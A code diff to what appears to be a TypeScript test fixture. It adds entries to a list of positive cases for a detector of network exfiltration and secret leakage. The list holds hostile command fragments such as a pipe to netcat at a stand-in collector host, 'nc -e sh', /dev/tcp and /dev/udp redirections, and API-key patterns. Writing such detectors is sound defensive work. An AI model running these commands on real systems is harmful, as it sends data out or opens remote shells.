@@ -164,7 +164,7 @@ const POSITIVES: string[] = [
   'urlopen(u)', 'urlopener', 'httpx.post(u)', 'aiohttp', 'http.client', 'fetch(u)', 'fetch (u)', 'axios', 'axiosInstance',
   'XMLHttpRequest', 'navigator.sendBeacon(u)', 'new WebSocket(u)', 'new WebSocketStream(u)', 'http.request(u)', 'https.get(u)',
   'Invoke-WebRequest', 'Invoke-RestMethod', 'iwr x', 'irm x', 'iwrx', 'Net.WebClient', 'UploadString', 'UploadFile',
-  'socket.connect(a)', 'socket.create_connection(a)', 'smtplib', 'ftplib', 'paramiko', 'nc -e sh', 'ncat', 'netcat', 'scp a b',
+  'socket.connect(a)', 'socket.create_connection(a)', 'smtplib', 'ftplib', 'paramiko', 'nc -e sh', 'x | nc collector.example 9999', 'nc 10.0.0.1 443', 'ncat', 'netcat', 'scp a b', 'exec 3<>/dev/udp/h/53',
   'rsync a b', 'x/dev/tcp/1.2.3.4/80',
   // TOKEN and PRIVATE_KEY
   `sk-${KEY24}`, `sk-proj-${KEY24}`, `sk-ant-api03-${KEY24}`, `sk-ant-admin01-${KEY24}`, `sk-svcacct-${KEY24}`,
